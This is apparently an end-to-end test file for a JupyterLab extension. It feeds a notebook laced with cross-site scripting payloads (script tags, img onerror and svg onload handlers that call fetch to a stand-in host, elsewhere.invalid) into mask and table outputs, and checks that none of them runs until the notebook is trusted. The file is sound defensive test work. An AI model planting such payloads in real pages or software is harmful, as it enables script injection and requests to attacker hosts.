import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { MASK_MIME, TABLE_MIME } from "@bioengine/mime";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { bundles, type Cell, type Notebook } from "../notebooks/notebook";
import { savedMask } from "../notebooks/savedmask";
import { type OpenLab, openSaved, pictures } from "./openlab";

/** Markup that leaves its name behind if a browser runs it, and asks another host for something. */
const attack = (name: string): string => {
  const script = `(window.ran ??= []).push('${name}'); fetch('http://elsewhere.invalid/${name}')`;
  return `<script>${script}</script><img src=x onerror="${script}"><svg onload="${script}"></svg>`;
};

/** A cell that has shown these bundles, one below the other. */
const cellOf = (id: string, ...shown: Record<string, unknown>[]): Cell => ({
  cell_type: "code",
  id,
  source: `// ${id}`,
  metadata: {},
  execution_count: 1,
  outputs: shown.map((data) => ({ output_type: "display_data", data, metadata: {} })),
});

function hostileNotebook(notebook: Notebook): Notebook {
  const [mask, table] = notebook.cells.map((cell) => bundles(cell)[0] ?? {});
  const maskPayload = mask[MASK_MIME] as Record<string, unknown>;
  const tablePayload = table[TABLE_MIME] as { columns: Record<string, unknown>[] };
  const labels = maskPayload.labels as { encoding: string; data: string };
  const [label, area, ...columns] = tablePayload.columns;
  const text = attack("mask");
  const cells = [
    cellOf("html", { "text/html": `<b>Some text</b>${attack("html")}` }),
    cellOf("svg", { "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg">${attack("svg")}</svg>` }),
    cellOf("mask", {
      ...mask,
      [MASK_MIME]: { ...maskPayload, title: text, digest: text, unit: text, spacing: [1, 1] },
      "text/html": attack("beside the mask"),
    }),
    cellOf(
      "corrupt",
      { ...mask, [MASK_MIME]: { ...maskPayload, labels: { ...labels, data: labels.data.slice(0, 400) } } },
      { [MASK_MIME]: { ...maskPayload, image: { mimeType: text, data: text, width: 9, height: 9 } } },
      { [TABLE_MIME]: { ...tablePayload, columns: text } },
    ),
    cellOf("table", {
      ...table,
      [TABLE_MIME]: {
        ...tablePayload,
        digest: attack("table"),
        columns: [label, { ...area, name: attack("column"), unit: attack("unit") }, ...columns],
      },
      "text/html": attack("beside the table"),
    }),
  ];
  return { ...notebook, cells };
}

// A busy machine needs longer than a second.
const PATIENCE = { timeout: 30_000 };

let lab: OpenLab;
let page: Page;

beforeAll(async () => {
  const { notebook } = await savedMask("untrusted");
  lab = await openSaved("untrusted", hostileNotebook(notebook));
  ({ page } = lab);
  // All cells are in sight at once: JupyterLab takes cells that are not off the page.
  await page.setViewportSize({ width: 1300, height: 2200 });
});

afterAll(() => lab?.close());

/** Names of the attacks that have run so far. */
const ran = (): Promise<string[]> =>
  page.evaluate(() => [...new Set((window as unknown as { ran?: string[] }).ran)]);

test("JupyterLab does not trust the notebook, whose mask and table show all the same", async () => {
  const trust = page.locator(".jp-StatusItem-trust");
  await expect.poll(() => trust.getAttribute("title"), PATIENCE).toMatch(/^Notebook not trusted: 0 of 5 /);
  await page.locator('.be-Mask[data-ready="true"]').waitFor();
  await page.locator('.be-Table[data-ready="true"]').waitFor();
  expect(await page.locator(".jp-OutputArea b", { hasText: "Some text" }).count()).toBe(1);
});

test("outputs that are corrupt say so in their own place, and nothing else does", async () => {
  const corrupt = page.locator(".jp-CodeCell", { hasText: "// corrupt" });
  await expect
    .poll(() => corrupt.locator(".be-Error").allInnerTexts(), PATIENCE)
    .toEqual([
      expect.stringMatching(/^Cannot decode labels: labels.data must inflate to 524288 bytes, got /),
      expect.stringMatching(/^Cannot read mask payload: image.mimeType must be one of image\/png, /),
      expect.stringMatching(/^Cannot read table payload: columns must be an array, got /),
    ]);
  expect(await page.locator(".be-Error").count()).toBe(3);
  await page.screenshot({ path: join(pictures, "untrusted.png") });
});

test("markup in titles, units and columns is text, wherever it is shown", async () => {
  const mask = page.locator(".be-Mask-view");
  expect(await mask.innerText()).toContain("<script>");
  const colours = mask.getByLabel("What the colours stand for");
  await colours.selectOption({ index: 1 });
  await mask.locator("canvas").hover();
  await mask.locator("canvas").press("]");
  const table = page.locator(".be-Table", { has: page.locator(".lm-DataGrid") });
  await table.getByRole("button", { name: /plots/ }).click();
  await table.getByRole("button", { name: /HTML/ }).click();
  await table.locator("th", { hasText: "<script>" }).first().waitFor();
  await page.screenshot({ path: join(pictures, "untrustedmarkup.png") });
});

test("a column's name, however long, leaves every list inside its output", async () => {
  const table = page.locator(".be-Table", { has: page.locator("select") });
  const edges = await table.evaluate((output) =>
    [output, ...output.querySelectorAll("select")].map((part) => part.getBoundingClientRect().right),
  );
  expect(Math.max(...edges)).toBe(edges[0]);
});

test("the drawing that is saved of the mask runs no script either", async () => {
  const browser = page.context().browser();
  if (!browser) throw new Error("The page has no browser");
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.locator(".be-Mask-view").getByRole("button", { name: "SVG" }).click(),
  ]);
  const path = join(pictures, "untrusted.svg");
  await download.saveAs(path);
  const drawing = await browser.newPage();
  await drawing.goto(pathToFileURL(path).href);
  expect(await drawing.locator("text").first().textContent()).toContain("<script>");
  expect(await drawing.evaluate(() => "ran" in window)).toBe(false);
  await drawing.close();
});

test("no script has run, and no other host was asked for anything", async () => {
  expect(await ran()).toEqual([]);
  expect(lab.strangers).toEqual([]);
});

test("once a person trusts the notebook its own HTML runs, and still nothing in masks and tables", async () => {
  await page.locator(".jp-CodeCell .jp-InputArea-editor").first().click();
  await page.keyboard.press("Control+Shift+c");
  await page.locator(".lm-CommandPalette-input").fill("Trust Notebook");
  await page.locator(".lm-CommandPalette-item", { hasText: "Trust Notebook" }).first().click();
  await page.locator(".jp-Dialog").getByRole("button", { name: "Trust" }).click();
  await expect.poll(ran, PATIENCE).toContain("html");
  await expect.poll(() => lab.strangers, PATIENCE).toContain("http://elsewhere.invalid/html");
  await page.locator('.be-Mask[data-ready="true"]').waitFor();
  await page.locator('.be-Table[data-ready="true"]').waitFor();
  expect(await ran()).toEqual(["html"]);
});
